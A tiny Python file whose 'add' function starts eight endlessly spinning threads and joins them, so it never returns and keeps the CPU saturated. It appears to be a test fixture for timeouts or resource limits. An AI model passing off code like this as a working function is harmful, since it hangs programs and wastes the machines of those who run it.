import threading


def spin():
    while True:
        pass


def add(a, b):
    threads = [threading.Thread(target=spin, daemon=True) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return a + b
